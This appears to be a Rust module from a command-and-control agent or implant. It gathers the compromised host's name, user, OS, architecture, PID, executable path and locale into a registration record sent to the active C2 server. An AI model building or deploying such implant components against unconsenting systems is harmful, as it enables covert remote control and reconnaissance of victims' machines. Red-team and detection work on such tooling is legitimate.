//! Identity record sent after connecting

use crate::context::AgentContext;
use backhaul_proto::message::Register;

fn env_first(keys: &[&str]) -> Option<String> {
    keys.iter()
        .filter_map(|key| std::env::var(key).ok())
        .find(|value| !value.is_empty())
}

fn host_name() -> String {
    hostname::get()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// Gather the registration record for a connection over `active_c2`
pub fn collect(ctx: &AgentContext, active_c2: &str, proxy_url: Option<&str>) -> Register {
    let filename = std::env::current_exe()
        .map(|path| path.display().to_string())
        .or_else(|_| std::env::args().next().ok_or(()))
        .unwrap_or_else(|_| "<< error >>".to_string());

    Register {
        hostname: host_name(),
        username: env_first(&["USER", "USERNAME"]).unwrap_or_else(|| "<< error >>".to_string()),
        os: std::env::consts::OS.to_string(),
        arch: std::env::consts::ARCH.to_string(),
        pid: std::process::id(),
        filename,
        version: env!("CARGO_PKG_VERSION").to_string(),
        active_c2: active_c2.to_string(),
        proxy_url: proxy_url
            .map(str::to_string)
            .or_else(|| ctx.config.proxy_url.clone()),
        reconnect_interval: ctx.settings.reconnect_interval().as_secs(),
        config_id: ctx.config.config_id.clone(),
        peer_id: ctx.config.peer_id,
        locale: env_first(&["LC_ALL", "LANG"]).unwrap_or_else(|| "en_US".to_string()),
    }
}
